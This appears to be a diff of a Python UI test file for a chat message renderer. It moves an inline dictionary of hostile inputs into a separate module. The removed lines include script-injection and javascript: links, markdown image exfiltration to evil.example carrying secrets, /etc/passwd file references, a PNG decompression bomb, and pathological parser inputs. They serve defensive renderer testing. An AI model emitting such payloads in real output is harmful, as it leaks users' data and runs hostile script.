@@ -11,42 +11,8 @@ from PySide6.QtWidgets import QApplication
 
 from app.ui.chat.message_rows import MessageRow, RowAttachment, RowSource
 from app.ui.shared.theme import Theme
+from tests.ui.hostile_messages import HOSTILE
 from tests.ui.message_kit import answer, controls, question, settle, shown, visible_text
-
-HOSTILE = {
-    "html": "<h1>big</h1><img src='http://evil.example/a.png'><iframe src=http://evil.example></iframe>" * 50,
-    "script": "<script>fetch('http://evil.example')</script>\n\n[x](javascript:alert(1)) [y](vbscript:x)",
-    "pictures": "![a](http://evil.example/p.png?secret=1) ![b](data:image/png;base64,AAAA) ![c](file:///etc/passwd)",
-    "styles": "<style>* { background: url(http://evil.example) }</style>\n\n<div style='position:fixed'>x</div>",
-    "entities": "&lt;img src=http://evil.example/x&gt; &#x202e; &#0; &nbsp;" * 20,
-    "bidi": "\u202egnp.exe\u202c \u2066 \u2067 \u2068 text \u2069 abc" * 30,
-    "zalgo": "z" + "\u0300\u0301\u0302\u0303\u0304" * 400 + " text",
-    "one line of 2 MB": "word " * 400_000,
-    "one word of 2 MB": "x" * 2_000_000,
-    "10,000 rows": "| a | b | c |\n|---|--:|:-:|\n" + "| cell | 3.14 | **x** |\n" * 10_000,
-    "a fence without end": "```python\n" + "x = 'unclosed\n" * 20_000,
-    "300 nested quotes": "> " * 300 + "deep\n" + ">" * 300 + "deeper",
-    "300 nested lists": "".join("  " * depth + "- item\n" for depth in range(300)),
-    "open brackets": "[" * 20_000 + "(" * 20_000,
-    "stars": "*" * 20_000 + "a" + "**" * 5_000,
-    "back ticks": "`" * 9_999 + " a " + "``` `` `" * 3_000,
-    "table bars": "|" * 20_000 + "\n" + "|-" * 10_000 + "|\n" + "| x " * 5_000,
-    "half markers": "[REF]" * 5_000 + "^1" * 5_000 + "[REF]99999999999[/REF]",
-    "null and controls": "".join(chr(number) for number in range(32)) * 50 + "\ufffe\uffff\ufdd0",
-    "lone surrogates": "broken \ud800 text \udfff here",
-    "dollars": "$" * 20_000 + " $a$ " * 200,
-    "formulas without end": "$$\n" + "\\frac{a}{" * 5_000 + "\n\n" + "\\[" * 5_000,
-    "formulas that grow": "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$ $" + "x^{" * 900 + "}" * 900 + "$",
-    "formulas that reach out": "$\\href{http://evil.example}{x}$ $\\includegraphics{/etc/passwd}$ $\\input{/a}$",
-    "carried pages": "![a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zy8+)"
-    " [c](data:text/html,<script>alert(1)</script>)",
-    "a carried picture of 2 MB": "![a](data:image/png;base64," + "A" * 2_000_000 + ")",
-    "a carried bomb": "![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAnEAAAJxACAYAAAA=)",
-    "carried pictures": "![a](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7) " * 400,
-    "stand-ins of pictures": "![a](data-picture:0) ![b](data-picture:99999) `data-picture:0` data:image/png;base64,",
-    "exfiltration": "![](https://evil.example/?q=secret) [![x](//evil.example/p)](http://evil.example) <https://evil.example>"
-    "\n\n[r]: https://evil.example/ref\n\n![pixel][r]",
-}  # fmt: skip
 
 
 @pytest.fixture
